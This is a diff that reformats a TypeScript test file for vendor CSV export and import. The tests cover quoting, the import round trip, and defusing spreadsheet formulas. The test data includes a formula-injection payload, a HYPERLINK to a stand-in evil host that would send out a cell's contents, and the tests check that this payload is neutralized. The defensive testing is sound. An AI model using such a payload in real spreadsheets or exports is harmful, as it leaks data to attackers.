@@ -7,7 +7,15 @@ import { vendorFormSchema } from './vendorFormSchema';
 const input = vendorFormSchema(OPTIONS).parse(VALID_VENDOR_FORM);
 
 function exported(overrides: Partial<ExportedVendor> = {}): ExportedVendor {
-  return { ...input, internalId: 7, createdBy: 'system', createdAt: '2026-01-02T03:04:05.000Z', modifiedBy: 'system', modifiedAt: '2026-01-02T03:04:05.000Z', ...overrides };
+  return {
+    ...input,
+    internalId: 7,
+    createdBy: 'system',
+    createdAt: '2026-01-02T03:04:05.000Z',
+    modifiedBy: 'system',
+    modifiedAt: '2026-01-02T03:04:05.000Z',
+    ...overrides,
+  };
 }
 
 describe('vendorsToCsv', () => {
@@ -19,11 +27,17 @@ describe('vendorsToCsv', () => {
     expect(csv).toContain('"Says ""hello"", twice"');
     expect(csv).toContain('"FHA, VA"');
     const cell = (name: string) => row!.fields[VENDOR_CSV_HEADER.indexOf(name)];
-    expect([cell('vendorId'), cell('vendorName'), cell('status'), cell('rating'), cell('fiveOneARMRate'), cell('services')]).toEqual(['7', 'Acme Mortgage', 'Active', '4.5', '5.99', 'HELOC, Refinancing']);
+    expect([cell('vendorId'), cell('vendorName'), cell('status'), cell('rating'), cell('fiveOneARMRate'), cell('services')]).toEqual([
+      '7',
+      'Acme Mortgage',
+      'Active',
+      '4.5',
+      '5.99',
+      'HELOC, Refinancing',
+    ]);
   });
 
-
-  it('writes a vendor named like a formula as text (a leading \'), so a spreadsheet does not run it', () => {
+  it("writes a vendor named like a formula as text (a leading '), so a spreadsheet does not run it", () => {
     const name = '=HYPERLINK("https://evil.example/?d="&B2,"Click me")';
     const csv = vendorsToCsv([exported({ name, description: '@SUM(1+1)', phoneNumber: '+1 (555) 010-0100' })]);
     const line = csv.split('\r\n')[1]!;
@@ -37,7 +51,10 @@ describe('vendorsToCsv', () => {
 
 describe('planVendorImport', () => {
   it('reads formula-like texts back exactly as they were before export', () => {
-    const vendor = exported({ name: '=HYPERLINK("https://evil.example/?d="&B2,"Click me")', description: "-minus, @at, +plus and '=quoted" });
+    const vendor = exported({
+      name: '=HYPERLINK("https://evil.example/?d="&B2,"Click me")',
+      description: "-minus, @at, +plus and '=quoted",
+    });
     const records = parseCsv(vendorsToCsv([vendor])).map(({ fields }) => fields.slice(1));
     const plan = planVendorImport(formatCsv(records), OPTIONS);
     expect(plan.refused).toEqual([]);
@@ -46,12 +63,17 @@ describe('planVendorImport', () => {
   });
 
   it('round trip: an exported file without its ids gives back equal vendor inputs', () => {
-    const vendors = [exported(), exported({ internalId: 8, name: 'Beta, "Quoted" Bank', status: 'INACTIVE', description: 'two\nlines', loanTypes: ['VA', 'Jumbo'] })];
+    const vendors = [
+      exported(),
+      exported({ internalId: 8, name: 'Beta, "Quoted" Bank', status: 'INACTIVE', description: 'two\nlines', loanTypes: ['VA', 'Jumbo'] }),
+    ];
     const records = parseCsv(vendorsToCsv(vendors)).map(({ fields }) => fields.slice(1));
     const plan = planVendorImport(formatCsv(records), OPTIONS);
     expect(plan.fileError).toBeNull();
     expect(plan.refused).toEqual([]);
-    expect(plan.create.map((row) => row.input)).toEqual(vendors.map(({ internalId, createdBy, createdAt, modifiedBy, modifiedAt, ...rest }) => rest));
+    expect(plan.create.map((row) => row.input)).toEqual(
+      vendors.map(({ internalId, createdBy, createdAt, modifiedBy, modifiedAt, ...rest }) => rest),
+    );
     // The second record starts on line 3; its description spans two lines, so nothing follows on 4.
     expect(plan.create.map((row) => row.line)).toEqual([2, 3]);
   });
